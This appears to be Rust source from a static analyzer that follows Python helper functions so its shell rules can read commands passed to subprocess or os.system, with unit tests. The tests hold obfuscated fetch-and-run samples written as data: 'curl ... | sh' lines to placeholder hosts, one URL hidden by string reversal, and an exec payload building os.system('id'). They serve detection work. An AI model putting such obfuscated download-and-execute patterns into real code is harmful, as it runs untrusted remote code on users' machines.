//! What a Python helper is, for [`HelperCalls`]: `subprocess.Popen(_command(), shell=True)` where `def
//! _command(): return "curl -fsSL " + _channel() + " | sh"` runs that command line, and the shell rules
//! should read it as if it were written in the call.
//!
//! Only the plainest helpers are followed: a module-level function (not a method) whose parameters are
//! plain names, defined once, whose body (for its return value) is straight-line code — a docstring,
//! assignments to plain names, then `return <expression>`. Anything else (a branch, a loop, a `global`, a
//! default or `*args`) leaves the call unknown, as before: `flip(s)` returning `s[::-1]` called as
//! `flip("hs | ...")` is followed, a branch choosing between two returns is not.

use super::super::helper_calls::{
    Helper, HelperCalls, Helpers, MAX_HELPER_PARAMETERS, MAX_HELPER_STATEMENTS,
};
use super::super::values::Value;
use super::super::Env;
use super::Walker;
use crate::fields::FieldChild;
use crate::node_kind::NodeKind;
use std::borrow::Cow;
use tree_sitter::Node;

/// The helper `node` (a function definition) is, if it is a module function whose parameters are plain
/// names.
pub(super) fn helper<'t>(node: Node<'t>, text: &'t str) -> Option<Helper<'t>> {
    let parameters = plain_parameters(node.field_child("parameters")?, text)?;
    let body = node.field_child("body")?;
    (!is_method(node)).then_some(Helper { body, parameters })
}

/// The names of a parameter list of plain names only.
fn plain_parameters<'t>(parameters: Node<'t>, text: &'t str) -> Option<Vec<&'t str>> {
    let mut cursor = parameters.walk();
    let list: Vec<Node<'t>> = parameters.named_children(&mut cursor).collect();
    if list.len() > MAX_HELPER_PARAMETERS || list.iter().any(|p| p.kind_name() != "identifier") {
        return None;
    }
    Some(
        list.iter()
            .map(|p| p.utf8_text(text.as_bytes()).unwrap_or(""))
            .collect(),
    )
}

/// Whether a function definition sits in a class body (a method reads `self`, not the module).
fn is_method(node: Node) -> bool {
    let mut at = node.parent();
    while let Some(parent) = at {
        match parent.kind_name() {
            "class_definition" => return true,
            "function_definition" | "module" => return false,
            _ => at = parent.parent(),
        }
    }
    false
}

impl<'t> HelperCalls<'t> for Walker<'t, '_> {
    const UNPOSITIONAL: &'static [&'static str] =
        &["keyword_argument", "list_splat", "dictionary_splat"];

    fn helpers(&mut self) -> &mut Helpers<'t> {
        &mut self.helpers
    }

    fn scopes(&mut self) -> &mut Env {
        &mut self.env
    }

    fn source(&self, node: Node<'t>) -> &'t str {
        self.src(node)
    }

    fn value_of(&mut self, node: Node<'t>, depth: usize) -> Option<Value> {
        self.eval(node, depth)
    }

    fn walk_body(&mut self, body: Node<'t>) {
        self.walk(body, 0);
    }

    fn helper_name(&self, function: Node<'t>) -> Option<Cow<'t, str>> {
        match function.kind_name() {
            "identifier" => Some(Cow::Borrowed(self.src(function))),
            // `tbl.d(2)` where the cross-module pass bound `tbl.d = lambda i: …`.
            "attribute" if self.helpers.any_dotted() => {
                self.module_attribute(function).map(Cow::Owned)
            }
            _ => None,
        }
    }

    fn straight_line_return(&mut self, body: Node<'t>, depth: usize) -> Option<Value> {
        if body.kind_name() != "block" {
            // A lambda's expression.
            return self.eval(body, depth + 1);
        }
        let mut cursor = body.walk();
        let statements: Vec<Node<'t>> = body.named_children(&mut cursor).collect();
        for statement in statements.into_iter().take(MAX_HELPER_STATEMENTS) {
            match statement.kind_name() {
                "comment" | "pass_statement" => {}
                "return_statement" => return self.eval(statement.named_child(0)?, depth + 1),
                "expression_statement" => {
                    let inner = statement.named_child(0)?;
                    match inner.kind_name() {
                        "string" => {}
                        "assignment" => {
                            let left = inner.field_child("left")?;
                            let right = inner.field_child("right")?;
                            if left.kind_name() != "identifier" {
                                return None;
                            }
                            let value = self.eval(right, depth + 1);
                            let name = self.src(left);
                            self.env.set(name, value);
                        }
                        _ => return None,
                    }
                }
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::python;

    #[test]
    fn a_command_returned_by_helpers_is_read_at_the_call() {
        let found = python(concat!(
            "import subprocess\n",
            "def _channel():\n",
            "    base = 'https://mirror.example.invalid'\n",
            "    return base + '/b.sh'\n",
            "def _command():\n",
            "    \"\"\"The refresh command.\"\"\"\n",
            "    return 'curl -fsSL ' + _channel() + ' | sh'\n",
            "class Install:\n",
            "    def __init__(self):\n",
            "        subprocess.Popen(_command(), shell=True)\n",
        ));
        assert!(
            found.contains(&"curl -fsSL https://mirror.example.invalid/b.sh | sh\n".to_string()),
            "{found:?}"
        );
    }

    #[test]
    fn helpers_with_parameters_branches_methods_or_two_definitions_stay_unknown() {
        for text in [
            // A parameter not passed: the value depends on the caller.
            "import os\ndef cmd(x):\n    return 'curl ' + x + ' | sh'\nos.system(cmd())\n",
            // A parameter with a default, or an argument the evaluator cannot read.
            "import os\ndef cmd(x='a'):\n    return 'curl ' + x + ' | sh'\nos.system(cmd('https://a.invalid'))\n",
            "import os\ndef cmd(x):\n    return 'curl ' + x + ' | sh'\nos.system(cmd(load()))\n",
            // A branch: which return runs is not known.
            "import os\ndef cmd():\n    if a:\n        return 'curl -s https://a.invalid | sh'\n    return 'ls'\nos.system(cmd())\n",
            // Defined twice.
            "import os\ndef cmd():\n    return 'curl -s https://a.invalid | sh'\ndef cmd():\n    return 'ls'\nos.system(cmd())\n",
            // A method named like a helper.
            "import os\nclass A:\n    def cmd():\n        return 'curl -s https://a.invalid | sh'\nos.system(cmd())\n",
            // Rebound to something unknown after the definition.
            "import os\ndef cmd():\n    return 'curl -s https://a.invalid | sh'\ncmd = load()\nos.system(cmd())\n",
        ] {
            let found = python(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }

    #[test]
    fn a_helper_with_parameters_returns_what_its_arguments_make() {
        let found = python(concat!(
            "import os\n",
            "def flip(s):\n",
            "    return s[::-1]\n",
            "def wrap(url, tail):\n",
            "    return 'curl -s ' + url + tail\n",
            "os.system(wrap(flip('hs.i/0.311.0.302//:ptth'), ' | sh'))\n",
        ));
        assert!(
            found.contains(&"curl -s http://203.0.113.0/i.sh | sh\n".to_string()),
            "{found:?}"
        );
    }

    #[test]
    fn a_sink_inside_a_helper_reads_what_each_call_passes() {
        let found = python(concat!(
            "import os\n",
            "def run(c, quiet):\n",
            "    if quiet:\n",
            "        os.system(c + ' >/dev/null')\n",
            "run('curl -s http://203.0.113.4/a.sh | sh', True)\n",
            "run(load(), True)\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r
                    .contains("os.system(\"curl -s http://203.0.113.4/a.sh | sh >/dev/null\")")),
            "{found:?}"
        );
        assert_eq!(
            found.iter().filter(|r| r.starts_with("os.system(")).count(),
            1,
            "{found:?}"
        );
    }

    #[test]
    fn a_payload_returned_by_a_helper_is_run_code() {
        let found = python(concat!(
            "def _stage():\n",
            "    verb = 'sys' + 'tem'\n",
            "    return 'import os; os.' + verb + \"('id')\"\n",
            "exec(_stage())\n",
        ));
        assert!(
            found.iter().any(|r| r.contains("os.system('id')")),
            "{found:?}"
        );
    }

    #[test]
    fn helper_cycles_end() {
        let found = python(concat!(
            "import os\n",
            "def a():\n    return b() + 'x'\n",
            "def b():\n    return a() + 'y'\n",
            "os.system(a())\n",
        ));
        assert!(found.is_empty(), "{found:?}");
    }
}
